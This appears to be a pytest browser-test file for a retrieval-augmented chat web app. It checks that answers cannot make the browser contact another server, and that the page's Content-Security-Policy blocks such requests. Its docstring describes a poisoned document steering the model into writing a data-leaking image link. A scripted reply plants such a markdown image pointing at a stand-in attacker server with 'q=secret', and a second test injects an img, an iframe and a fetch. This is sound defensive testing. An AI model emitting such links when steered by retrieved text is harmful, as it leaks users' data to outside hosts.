"""Nothing in an answer makes the reader's browser fetch another server, in headless Chromium.

A poisoned document can steer the model into writing ``![](http://host/?q=secret)``. The page
strips images from answers (``rag/web/render.py``) and is served with a Content-Security-Policy
that allows loading only from itself (``rag/web/app.py``). A tiny HTTP server on another port
stands in for the attacker's host and counts what reaches it. Fast fakes (hashing embedder,
scripted LLM), as in ``tests/test_browser_features.py``.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import FAKE_MODEL_ID, SAMPLE_CORPUS
from test_browser import ANSWER_DONE, browser, running  # noqa: F401 - the shared browser fixture

from rag.components import Components
from rag.config import Settings
from rag.index.ingest import ingest
from rag.models.fakes import HashingEmbedder, ScriptedGenerator
from rag.web.app import CONTENT_SECURITY_POLICY, WebApp

pytestmark = pytest.mark.browser

HENAN = "河南设立的人工智能产业基金规模是多少？"


@pytest.fixture(scope="module")
def leak() -> Iterator[tuple[str, list[str]]]:
    """(base URL, paths requested so far) of a server on another port: the attacker's host."""
    requested: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requested
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def chat_url(tmp_path_factory, leak) -> Iterator[str]:
    """A page whose model appends an image pointing at the leak server to its cited answer."""
    work = tmp_path_factory.mktemp("web-leak")
    embedder = HashingEmbedder(model_id=FAKE_MODEL_ID)
    settings = replace(
        Settings(), index_dir=work / "index", embed_model=FAKE_MODEL_ID, conversations_db=work / "conversations.db"
    )
    ingest([SAMPLE_CORPUS], settings.index_dir, embedder)
    reply = f"河南设立了总规模30亿元的人工智能产业基金[1]。![]({leak[0]}/leak?q=secret) ![图][r]\n\n[r]: {leak[0]}/ref"
    generator = ScriptedGenerator(reply, piece_delay_s=0.02)  # streamed in pieces, each rendered
    app = WebApp(settings, Components(settings, embedder, generator), feedback_file=work / "feedback.jsonl")
    with running(app) as url:
        yield url


@pytest.fixture
def page(browser, chat_url) -> Iterator:  # noqa: F811 - the shared fixture
    """The page, with what the browser said about the content policy in ``page.csp_reports``."""
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, locale="zh-CN")
    page = context.new_page()
    page.csp_reports = []
    page.on("console", lambda message: "Content Security Policy" in message.text and page.csp_reports.append(message.text))
    page.response = page.goto(chat_url)
    page.wait_for_selector("#rag-question textarea", timeout=60_000)
    yield page
    context.close()


def test_an_image_in_an_answer_is_never_fetched(page, leak):
    assert page.response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    page.fill("#rag-question textarea", HENAN)
    page.click("#rag-send")
    page.wait_for_function(ANSWER_DONE, timeout=60_000)
    page.wait_for_timeout(1000)  # time for any fetch the answer would cause
    answer = page.locator('#rag-chat [data-testid="bot"]').last
    assert "30亿元" in answer.inner_text() and answer.locator("a.rag-cite").count() == 1
    assert answer.locator("img").count() == 0
    assert leak[1] == []
    assert page.csp_reports == []  # Gradio itself loads nothing the policy forbids


def test_the_policy_blocks_what_gets_onto_the_page_anyway(page, leak):
    page.evaluate(
        """base => {
          const img = new Image(); img.src = base + "/img"; document.body.append(img);
          const frame = document.createElement("iframe"); frame.src = base + "/frame"; document.body.append(frame);
          fetch(base + "/fetch").catch(() => {});
        }""",
        leak[0],
    )
    page.wait_for_timeout(1000)
    assert leak[1] == []
    for blocked in ("Loading the image", "Framing", "Connecting to"):  # Chromium's words for img, iframe, fetch
        assert any(report.startswith(f"{blocked} '{leak[0]}/") for report in page.csp_reports), blocked
